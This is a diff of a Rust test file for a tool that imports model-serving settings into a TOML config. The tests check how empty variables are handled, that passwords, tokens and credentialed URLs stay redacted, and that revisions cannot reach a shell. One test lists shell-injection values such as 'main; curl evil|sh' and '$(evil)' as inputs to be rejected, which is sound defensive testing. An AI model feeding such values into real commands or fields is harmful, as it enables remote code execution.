@@ -127,6 +127,19 @@ fn the_file_wins_over_the_environment_and_the_last_value_over_earlier_ones() {
 }
 
 #[test]
+fn an_empty_variable_sets_nothing_and_is_reported() {
+    let place = Place::with(&["config.json"]);
+    let imported = place.import("", "OPTION_MAX_ROLLING_BATCH_SIZE=\nMAX_BATCH_SIZE=2\n");
+    let empty = Fate::NotNeeded("it is empty".to_owned());
+    assert_eq!(fate(&imported, "OPTION_MAX_ROLLING_BATCH_SIZE"), empty);
+    let batch = Fate::Carried("[handler] max_rolling_batch_size = 2".to_owned());
+    assert_eq!(fate(&imported, "MAX_BATCH_SIZE"), batch);
+    let imported = place.import("option.n_positions=128\n", "OPTION_N_POSITIONS=\n");
+    assert_eq!(fate(&imported, "OPTION_N_POSITIONS"), empty);
+    assert_eq!(imported.report.entries.len(), 2);
+}
+
+#[test]
 fn two_names_of_one_field_that_differ_are_no_silent_choice() {
     let text = "option.max_rolling_batch_size=4\noption.max_num_seqs=8\n";
     let (fate, toml) = of(&["config.json"], text, "", "option.max_num_seqs");
@@ -183,6 +196,21 @@ fn a_model_of_a_hub_is_a_place_that_no_worker_accepts() {
     let step = "`hf download org/model --revision abc --local-dir DIR` and `nsbridge model push DIR s3://BUCKET/PREFIX`";
     assert!(imported.report.steps[0].contains(step), "{:?}", imported.report.steps);
     assert!(place.toml(&imported).contains("model = \"model\"\n"));
+}
+
+#[test]
+fn a_command_quotes_no_revision_that_a_shell_would_run() {
+    for revision in ["main; curl evil|sh", "$(evil)", "--local-dir=/", "x y;z", "a`b`"] {
+        let place = Place::with(&[]);
+        let imported =
+            place.import(&format!("option.model_id=org/model\noption.revision={revision}\n"), "");
+        let all = place.toml(&imported) + &imported.report.lines().join("\n");
+        assert!(!all.contains(revision) && !all.contains("evil"), "{all}");
+        let step = "`hf download org/model --revision REVISION --local-dir DIR`";
+        assert!(imported.report.steps[0].contains(step), "{:?}", imported.report.steps);
+        let fate = fate(&imported, "option.revision");
+        assert!(fate.is_loss() && fate.text().contains("characters that no revision has"));
+    }
 }
 
 #[test]
@@ -244,12 +272,107 @@ fn adapters_and_requirements_beside_the_model_are_told() {
 
 #[test]
 fn a_secret_stays_out_of_the_file_and_of_the_report() {
-    let place = Place::with(&["model.py"]);
-    let imported =
-        place.import("option.db_password=canary\noption.env=A=canary\n", "HF_TOKEN=canary\n");
-    let all = place.toml(&imported) + &imported.report.lines().join("\n");
-    assert!(!all.contains("canary"), "{all}");
+    let check = |files: &[&str], properties: &str, variables: &str| {
+        let place = Place::with(files);
+        let imported = place.import(properties, variables);
+        let all = place.toml(&imported) + &imported.report.lines().join("\n");
+        assert!(!all.contains("canary"), "{all}");
+        all
+    };
+    let python = &["model.py"];
+    let text = "option.db_password=canary\noption.env=A=canary\n";
+    let all = check(python, text, "HF_TOKEN=canary\n");
     assert!(all.contains("NSBRIDGE_HANDLER__OPTIONS__DB_PASSWORD"), "{all}");
+    for name in [
+        "token",
+        "key",
+        "aws_session_token",
+        "huggingface_token",
+        "github_token",
+        "openai_key",
+        "passphrase",
+        "db_pwd",
+        "accessKey",
+        "apiToken",
+        "api-key",
+        "backend_token",
+        "a; evil_token",
+    ] {
+        let name = name.replace(' ', "\\ ");
+        let all = check(python, &format!("option.{name}=canary\n"), "");
+        assert!(!all.to_lowercase().contains("options__a;"), "{all}");
+    }
+    for token in ["canary", "canary # comment"] {
+        check(&["config.json"], "", &format!("HF_TOKEN={token}\nHUGGING_FACE_HUB_TOKEN={token}\n"));
+    }
+    for address in [
+        "https://user:canary@host/m",
+        "https://canary@host",
+        "https://user:canary@host/m.gguf",
+        "https://host/m?token=canary",
+        "s3://user:can/canary@bucket/m",
+        "s3://bucket/m?X-Amz-Signature=canary",
+        "djl://user:canary@zoo/m",
+        "https://user:canary@host/m # comment",
+    ] {
+        check(&[], &format!("option.model_id={address}\n"), "");
+        check(&["config.json"], &format!("option.draft_model_id={address}\n"), "");
+    }
+}
+
+#[test]
+fn tokens_of_a_model_are_no_secrets() {
+    for name in [
+        "eos_token",
+        "pad_token",
+        "image_placeholder_token",
+        "max_token",
+        "max_new_token",
+        "max_new_tokens",
+        "stopToken",
+        "decoder_start_token",
+        "eos_token_id",
+        "input_key",
+    ] {
+        let key = format!("option.{name}");
+        let (fate, _) = of(&["model.py"], &format!("{key}=a\n"), "", &key);
+        assert_eq!(fate, Fate::Carried(format!("[handler.options] {name}")));
+    }
+}
+
+#[test]
+fn a_token_of_a_hub_is_for_the_process_of_a_model_in_python() {
+    for name in ["HF_TOKEN", "HUGGING_FACE_HUB_TOKEN"] {
+        let variable = format!("{name}=canary\n");
+        let (fate, toml) = of(&["model.py"], "", &variable, name);
+        let why = "set it for the worker: a model's process inherits it";
+        assert_eq!(fate, Fate::NotCarried(why.to_owned()));
+        assert!(!toml.contains("canary"), "{toml}");
+        let (fate, _) = of(&["config.json"], "", &variable, name);
+        assert!(matches!(fate, Fate::NotNeeded(_)), "{fate:?}");
+    }
+}
+
+#[test]
+fn a_folder_for_a_model_in_python_is_its_target() {
+    let place = Place::with(&["model.py"]);
+    fs::create_dir(place.model().0.join("weights")).unwrap();
+    let imported = place.import("option.model_id=/opt/ml/model/weights\n", "");
+    let toml = place.toml(&imported);
+    assert!(toml.contains("target = \"bear/weights\"\n"), "{toml}");
+    assert!(!toml.contains("model_id ="), "{toml}");
+    place.read(&imported).unwrap();
+    // A file is no place of a model.
+    let imported = place.import("option.model_id=./model.py\n", "");
+    assert!(place.toml(&imported).contains("model_id = \"./model.py\"\n"));
+}
+
+#[test]
+fn a_model_in_python_has_its_served_name() {
+    let text = "option.served_model_name=grizzly\n";
+    let (fate, toml) = of(&["model.py"], text, "", "option.served_model_name");
+    assert_eq!(fate, Fate::Carried("[worker] model = \"grizzly\"".to_owned()));
+    assert!(toml.contains("model = \"grizzly\"\n"), "{toml}");
 }
 
 #[test]
